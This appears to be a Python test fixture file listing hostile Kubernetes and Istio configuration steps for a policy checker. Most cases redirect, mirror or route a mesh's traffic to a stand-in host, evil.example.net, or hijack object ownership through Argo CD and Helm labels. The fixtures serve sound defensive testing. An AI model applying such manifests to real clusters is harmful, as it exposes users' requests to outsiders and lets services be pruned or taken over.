"""Steps that would send people's requests elsewhere, and those that would hand an object to somebody else: what only a cluster tells."""

from tests.check.hostile import endpoint, make, probe, route, virtual

TO_WEB = "http: [{route: [{destination: {host: web-v1}}]}]"
ABROAD = "{filters: [{type: RequestRedirect, requestRedirect: {hostname: evil.example.net}}]}"
HOSTNAME = "{group: networking.istio.io, kind: Hostname, name: evil.example.net}"
GET = "{get: {criteria: '==', responseCode: '200'}}"
TRAFFIC: dict[str, tuple[str, str]] = {
    "clients sent to a stranger": ("policy/power", route(ABROAD)),
    "requests to a stranger": (
        "policy/power",
        route(f"{{backendRefs: [{HOSTNAME}]}}"),
    ),
    "a route that is turned": (
        "policy/power",
        f"patch: {{kind: HTTPRoute, name: web, namespace: shop, merge: {{spec: {{rules: [{ABROAD}]}}}}}}",
    ),
    "a mirror to a stranger": (
        "policy/power",
        virtual("http: [{mirror: {host: evil.example.net}, route: [{destination: {host: web-v1}}]}]"),
    ),
    "a destination outside": ("policy/power", virtual("http: [{route: [{destination: {host: evil.example.net}}]}]")),
    "clients of the mesh sent away": ("policy/power", virtual("http: [{redirect: {authority: evil.example.net}}]")),
    "a host of another namespace": ("policy/outside-scope", virtual(TO_WEB, "far.other.svc.cluster.local")),
    "a host of nobody here": ("policy/outside-scope", virtual(TO_WEB, "api.example.net")),
    "a rule for another namespace": (
        "policy/outside-scope",
        make(
            "apiVersion: networking.istio.io/v1, kind: DestinationRule, metadata: {name: d, namespace: shop}, spec: "
            "{host: far.other.svc.cluster.local, trafficPolicy: {tls: {mode: DISABLE}}}"
        ),
    ),
    "an endpoint that is no pod": ("policy/power", endpoint("10.0.0.1")),
    "a probe by a name that it makes its own": (
        "policy/probe-address",
        route("{backendRefs: [{name: web-v1, port: 8080}]}")
        + "}, {"
        + probe(
            "type: httpProbe, httpProbe/inputs: {url: 'http://evil.example.net/', method: {get: {criteria: '==', responseCode: '200'}}}"
        ),
    ),
}
"""What only a cluster tells: elsewhere the same steps would be none of these."""
OWNED: dict[str, tuple[str, str]] = {
    "given to a reconciler that prunes": (
        "policy/power",
        "label: {kind: HTTPRoute, name: web, namespace: shop, set: {argocd.argoproj.io/instance: evil}}",
    ),
    "given to another release": (
        "policy/power",
        "patch: {kind: Service, name: web-v1, namespace: shop, merge: {metadata: {annotations: {meta.helm.sh/release-name: evil}}}}",
    ),
}
"""Of an object that may have it already: the check warns, and the run refuses what is news."""
